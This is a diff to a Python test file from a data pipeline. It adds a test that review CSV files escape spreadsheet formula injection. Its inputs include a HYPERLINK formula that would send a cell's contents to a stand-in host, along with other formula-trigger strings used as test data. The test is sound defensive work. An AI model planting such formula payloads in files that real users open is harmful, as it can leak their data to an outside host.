@@ -12,7 +12,7 @@ import pyarrow.parquet as pq
 import pytest
 
 from pipelines.nightly.report.night_report import REPORT
-from pipelines.nightly.review.label_file import write_review
+from pipelines.nightly.review.label_file import read_label_file, write_review
 from pipelines.nightly.review.review_sample import choose_documents
 from pipelines.nightly.tables.night_records import RUNS
 from pipelines.storage.object_store import Store
@@ -136,3 +136,28 @@ def test_the_file_has_room_for_labels(tmp_path: Path, several: bool) -> None:
     assert table["label"].to_pylist()[0] == (["good"] if several else "good")
     with pytest.raises(UserError, match=r"review.txt: expected a name that ends with .csv or .parquet"):
         write_review(sample, tmp_path / "review.txt")
+
+
+def test_a_spreadsheet_takes_no_cell_of_a_review_for_a_formula(tmp_path: Path) -> None:
+    """Ids, texts and classes are read back unchanged, also those that look as if they were written safely."""
+    formulas = ('=HYPERLINK("http://h/?"&A1)', "+1+1", "-2", "@SUM(1)", "\t=1", "\r=1", "\uff1d1", "'=1", "''-1")
+    ids = [*formulas, "'plain'", "a=b", "12", "x\n=1", "-", "'"]
+    publish(tmp_path / "out", [prediction(id, label="-1") for id in ids])
+    sample = choose_documents(str(tmp_path / "out"), documents=len(ids))
+    write_review(sample, tmp_path / "review.csv", {id: id for id in ids})
+    with (tmp_path / "review.csv").open(newline="") as file:
+        rows = list(csv.DictReader(file))
+    assert len(rows) == len(ids)
+    assert not [
+        cell for row in rows for cell in row.values() if cell.startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d"))
+    ]
+    assert {row["id"] for row in rows} >= {'\'=HYPERLINK("http://h/?"&A1)', "'-2", "'plain'", "12"}
+    for row in rows:
+        row["true_label"] = row["label"]  # as one copies it
+    with (tmp_path / "review.csv").open("w", newline="") as file:
+        writer = csv.DictWriter(file, list(rows[0]))
+        writer.writeheader()
+        writer.writerows(rows)
+    read = read_label_file(tmp_path / "review.csv")
+    assert [row.id for row in read] == sample.rows["id"].to_pylist()
+    assert {row.true_labels for row in read} == {("-1",)}
